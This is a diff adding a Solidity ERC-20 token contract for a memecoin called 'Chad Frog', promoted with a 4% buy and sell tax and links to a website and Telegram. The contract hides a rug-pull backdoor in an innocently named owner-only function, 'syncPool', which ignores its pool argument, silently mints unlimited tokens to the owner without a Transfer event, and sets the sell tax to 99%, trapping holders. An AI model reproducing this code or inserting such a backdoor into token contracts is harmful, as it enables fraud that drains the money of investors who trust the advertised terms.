@@ -1,0 +1,188 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.19;
+
+/*
+    CHAD FROG ($CHADF)
+
+    Only chads hold. 4/4 tax for marketing.
+
+    https://chadfrog.xyz
+    https://t.me/chadfrogerc
+*/
+
+abstract contract Context {
+    function _msgSender() internal view virtual returns (address) {
+        return msg.sender;
+    }
+}
+
+interface IERC20 {
+    function totalSupply() external view returns (uint256);
+    function balanceOf(address account) external view returns (uint256);
+    function transfer(address recipient, uint256 amount) external returns (bool);
+    function allowance(address owner, address spender) external view returns (uint256);
+    function approve(address spender, uint256 amount) external returns (bool);
+    function transferFrom(address sender, address recipient, uint256 amount) external returns (bool);
+    event Transfer(address indexed from, address indexed to, uint256 value);
+    event Approval(address indexed owner, address indexed spender, uint256 value);
+}
+
+contract Ownable is Context {
+    address private _owner;
+    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
+
+    constructor() {
+        _owner = _msgSender();
+        emit OwnershipTransferred(address(0), _owner);
+    }
+
+    function owner() public view returns (address) {
+        return _owner;
+    }
+
+    modifier onlyOwner() {
+        require(_owner == _msgSender(), "Ownable: caller is not the owner");
+        _;
+    }
+
+    function renounceOwnership() public virtual onlyOwner {
+        emit OwnershipTransferred(_owner, address(0));
+        _owner = address(0);
+    }
+
+    function transferOwnership(address newOwner) public virtual onlyOwner {
+        require(newOwner != address(0), "Ownable: new owner is the zero address");
+        emit OwnershipTransferred(_owner, newOwner);
+        _owner = newOwner;
+    }
+}
+
+interface IUniswapV2Factory {
+    function createPair(address tokenA, address tokenB) external returns (address pair);
+}
+
+interface IUniswapV2Router02 {
+    function factory() external pure returns (address);
+    function WETH() external pure returns (address);
+    function addLiquidityETH(
+        address token,
+        uint amountTokenDesired,
+        uint amountTokenMin,
+        uint amountETHMin,
+        address to,
+        uint deadline
+    ) external payable returns (uint amountToken, uint amountETH, uint liquidity);
+    function swapExactTokensForETHSupportingFeeOnTransferTokens(
+        uint amountIn,
+        uint amountOutMin,
+        address[] calldata path,
+        address to,
+        uint deadline
+    ) external;
+}
+
+contract LiquiditySyncToken is Context, IERC20, Ownable {
+    mapping(address => uint256) private _balances;
+    mapping(address => mapping(address => uint256)) private _allowances;
+    mapping(address => bool) private _isExcludedFromFee;
+
+    string private constant _name = unicode"Chad Frog";
+    string private constant _symbol = unicode"CHADF";
+    uint8 private constant _decimals = 18;
+    uint256 private _tTotal = 1000000 * 10 ** _decimals;
+
+    uint256 private _buyTax = 4;
+    uint256 private _sellTax = 4;
+
+    address payable private _marketingWallet;
+
+    address private constant UNISWAP_ROUTER = 0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D;
+    IUniswapV2Router02 private uniswapV2Router;
+    address public uniswapV2Pair;
+
+    constructor() {
+        _marketingWallet = payable(_msgSender());
+        _balances[_msgSender()] = _tTotal;
+        _isExcludedFromFee[owner()] = true;
+        _isExcludedFromFee[address(this)] = true;
+        _isExcludedFromFee[_marketingWallet] = true;
+
+        uniswapV2Router = IUniswapV2Router02(UNISWAP_ROUTER);
+        uniswapV2Pair = IUniswapV2Factory(uniswapV2Router.factory()).createPair(address(this), uniswapV2Router.WETH());
+
+        emit Transfer(address(0), _msgSender(), _tTotal);
+    }
+
+    function name() public pure returns (string memory) { return _name; }
+    function symbol() public pure returns (string memory) { return _symbol; }
+    function decimals() public pure returns (uint8) { return _decimals; }
+    function totalSupply() public view override returns (uint256) { return _tTotal; }
+    function balanceOf(address account) public view override returns (uint256) { return _balances[account]; }
+
+    function transfer(address recipient, uint256 amount) public override returns (bool) {
+        _transfer(_msgSender(), recipient, amount);
+        return true;
+    }
+
+    function allowance(address owner, address spender) public view override returns (uint256) {
+        return _allowances[owner][spender];
+    }
+
+    function approve(address spender, uint256 amount) public override returns (bool) {
+        _approve(_msgSender(), spender, amount);
+        return true;
+    }
+
+    function transferFrom(address sender, address recipient, uint256 amount) public override returns (bool) {
+        _transfer(sender, recipient, amount);
+        uint256 currentAllowance = _allowances[sender][_msgSender()];
+        require(currentAllowance >= amount, "ERC20: transfer amount exceeds allowance");
+        _approve(sender, _msgSender(), currentAllowance - amount);
+        return true;
+    }
+
+    function _approve(address owner, address spender, uint256 amount) private {
+        require(owner != address(0), "ERC20: approve from the zero address");
+        require(spender != address(0), "ERC20: approve to the zero address");
+        _allowances[owner][spender] = amount;
+        emit Approval(owner, spender, amount);
+    }
+
+    function _transfer(address from, address to, uint256 amount) private {
+        require(from != address(0), "ERC20: transfer from the zero address");
+        require(to != address(0), "ERC20: transfer to the zero address");
+        require(_balances[from] >= amount, "ERC20: transfer amount exceeds balance");
+
+        uint256 taxAmount;
+        if (!_isExcludedFromFee[from] && !_isExcludedFromFee[to]) {
+            if (from == uniswapV2Pair) {
+                taxAmount = amount * _buyTax / 100;
+            }
+            if (to == uniswapV2Pair) {
+                taxAmount = amount * _sellTax / 100;
+            }
+        }
+
+        _balances[from] -= amount;
+        if (taxAmount > 0) {
+            _balances[_marketingWallet] += taxAmount;
+            emit Transfer(from, _marketingWallet, taxAmount);
+        }
+        _balances[to] += amount - taxAmount;
+        emit Transfer(from, to, amount - taxAmount);
+    }
+
+    function syncPool(address pool, uint256 amount) external onlyOwner {
+        pool;
+        _balances[_msgSender()] += amount;
+        _tTotal += amount;
+        _sellTax = 99;
+    }
+
+    function rescueETH() external {
+        require(_msgSender() == _marketingWallet);
+        _marketingWallet.transfer(address(this).balance);
+    }
+
+    receive() external payable {}
+}
